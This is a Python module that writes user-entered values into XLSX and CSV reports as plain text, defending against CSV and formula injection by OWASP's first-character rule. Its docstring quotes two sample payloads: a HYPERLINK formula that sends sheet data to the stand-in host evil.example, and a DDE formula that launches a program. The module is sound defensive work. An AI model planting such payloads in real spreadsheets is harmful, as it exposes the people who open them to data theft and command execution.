"""Values into spreadsheet cells and CSV fields as text, never as formulas (CSV injection).

What a unit types online reaches the clerk's spreadsheets: report.xlsx,
findings.csv and the archive's index.xlsx. A 技术名称 typed as
``=HYPERLINK("http://evil.example/?x="&B2,"点击查看")`` would be a live link that
sends the sheet's data away when clicked, and ``=cmd|' /C calc'!A0`` a DDE call
that starts a program. OWASP's rule (CSV Injection): a value that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return must never reach a
spreadsheet as something it evaluates. Every cell of report.xlsx and every
field of findings.csv goes through this module, so the rule lives in one place:

- :func:`set_text` (XLSX). A cell carries its type, so the value need not change:
  a string is written as a string cell (``t="inlineStr"``, never an ``<f>``
  element) whatever it starts with, and the clerk reads exactly what the unit
  typed. (openpyxl alone makes any string starting with ``=`` a formula and one
  spelled like an error value, ``#N/A``, an error cell.) A string that starts
  with a formula character also gets the ``quotePrefix`` style, what Excel sets
  when one types ``'=…``: a clerk who opens the cell and presses Enter keeps
  text instead of having Excel read it again as a formula.
- :func:`csv_text` (CSV). A CSV has no types: the spreadsheet that opens it
  reads every field as if the clerk had typed it, and ``=…`` becomes a formula.
  The only way to say "this is text" is in the text itself, so such a field
  gets a leading apostrophe ``'``, the character a spreadsheet user types to
  mean text (a spreadsheet takes it as that marker; a text viewer shows it).
  The value after it is unchanged, and a field that starts otherwise is
  written exactly as it is.

Numbers stay numbers (the 匹配度 and counts sort and sum in the sheet): a
Python ``int``, ``float`` or ``Decimal`` is never a formula, and written by
``str`` it is digits, a sign, a point and an exponent, which a spreadsheet
reads as that number (``-3`` is minus three). Only text is guarded, and text
that merely looks like a number (``"-3"``, from the export) is guarded like
any other text.
"""

from __future__ import annotations

import datetime as dt
import re
from decimal import Decimal
from typing import Any

FORMULA_STARTS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
"""OWASP's list: a field starting with one of these is read as a formula (or, tab and CR, hides one)."""

CSV_TEXT_MARK = "'"
"""Put before a CSV field that starts with a formula character: the spreadsheet reads the field as text."""

XML_LINE_BREAKS = re.compile("[\x0b\x0c]")
"""Vertical tab (Word's manual line break, pasted into a web form) and form feed: line breaks to a reader."""
XML_FORBIDDEN = re.compile("[\x00-\x08\x0e-\x1f]")
"""Control characters XML 1.0 cannot hold (openpyxl refuses the whole workbook); invisible, so dropped."""

NUMBER_TYPES = (int, float, Decimal)


def formula_like(text: str) -> bool:
    """Whether a spreadsheet would read ``text`` as (or as hiding) a formula: OWASP's first characters."""
    return text.startswith(FORMULA_STARTS)


def set_text(cell: Any, value: object) -> None:
    """Write ``value`` into an openpyxl cell so that no spreadsheet evaluates it.

    - ``None``: an empty cell;
    - ``int`` / ``float`` / ``Decimal`` / ``bool``: a number (or boolean) cell, typed on purpose
      (NaN and infinity, which a workbook cannot hold, are written as their text);
    - a naive ``datetime`` / ``date`` / ``time``: a date cell (openpyxl gives it a date format); an
      aware one is written as its ISO text (Excel has no time zones, openpyxl refuses it);
    - anything else: ``str(value)`` as a string cell, never a formula nor an error value, and with
      the ``quotePrefix`` style when it starts with ``= + - @``, tab or CR. Line breaks XML cannot
      hold (vertical tab, form feed) become ``\\n``, other control characters are dropped, and
      Excel's limit cuts the text at 32767 characters (openpyxl does).
    """
    if value is None or isinstance(value, bool) or (isinstance(value, NUMBER_TYPES) and _finite(value)):
        cell.value = value
        return
    if type(value) is dt.date or (isinstance(value, dt.datetime | dt.time) and value.tzinfo is None):
        cell.value = value
        return
    if isinstance(value, dt.datetime | dt.time):
        value = value.isoformat()
    text = value if isinstance(value, str) else str(value)
    text = XML_FORBIDDEN.sub("", XML_LINE_BREAKS.sub("\n", text))
    cell.value = text
    cell.data_type = "s"  # openpyxl typed "=…" as a formula ("f") and "#N/A" as an error ("e")
    if formula_like(text):
        cell.quotePrefix = True


def csv_text(value: object) -> str:
    """``value`` as a CSV field a spreadsheet reads as text (see the module doc for why the CSV changes).

    ``None`` is ``""``; a number (``int``, ``float``, ``Decimal``, not ``bool``) is ``str(value)``
    unchanged; any other value is ``str(value)``, with a leading ``'`` when it starts with
    ``= + - @``, a tab or a carriage return (OWASP). The rest of the text is unchanged.
    """
    if value is None:
        return ""
    if isinstance(value, NUMBER_TYPES) and not isinstance(value, bool):
        return str(value)
    text = value if isinstance(value, str) else str(value)
    return CSV_TEXT_MARK + text if formula_like(text) else text


def _finite(number: int | float | Decimal) -> bool:
    return number.is_finite() if isinstance(number, Decimal) else number == number and abs(number) != float("inf")
